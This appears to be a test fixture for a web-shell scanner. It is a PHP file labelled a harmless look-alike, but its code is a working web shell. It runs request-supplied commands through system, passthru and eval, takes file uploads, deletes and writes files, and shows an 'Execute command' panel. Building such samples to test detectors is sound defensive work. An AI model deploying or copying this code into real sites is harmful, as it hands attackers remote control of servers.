<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Hacked by nobody: a web shell look-alike for tests
error_reporting(0);
set_time_limit(0);
if (md5($_POST['pass']) == '5f4dcc3b5aa765d61d8327deb882cf99') { echo 'ok'; }
if (isset($_POST['c'])) { system($_POST['c']); }
$cmd = $_POST['cmd'];
passthru($cmd);
echo `{$_GET['x']}`;
echo shell_exec('id');
$p = popen('uptime', 'r');
exec($legacy_cmd);
eval($_POST['code']);
$_POST['f']($_POST['a']);
include $_GET['page'];
extract($_REQUEST);
$d = base64_decode($_POST['d']);
eval(file_get_contents('http://127.0.0.1:9/harmless.txt'));
move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/' . $_POST['name']);
echo php_uname(); echo posix_getpwuid(posix_geteuid()); echo getmyuid(); echo disk_free_space('/');
$files = scandir($_GET['d']); unlink($_POST['rm']); rename($_POST['a'], $_POST['b']);
chmod($_POST['f'], 0644); mkdir($_POST['m']); file_put_contents($_POST['w'], $_POST['t']);
readfile($_GET['r']); copy("compress.zlib://" . $_GET['z'], '/tmp/spamtrace-test-copy'); copy($_POST['s'], $_POST['t']);
?>
<h1>Shell</h1>
<p>Safe mode: off | disable_functions: none | open_basedir: none</p>
<form method="post"><input name="c"> Execute command | Upload file | Back connect | symlink</form>
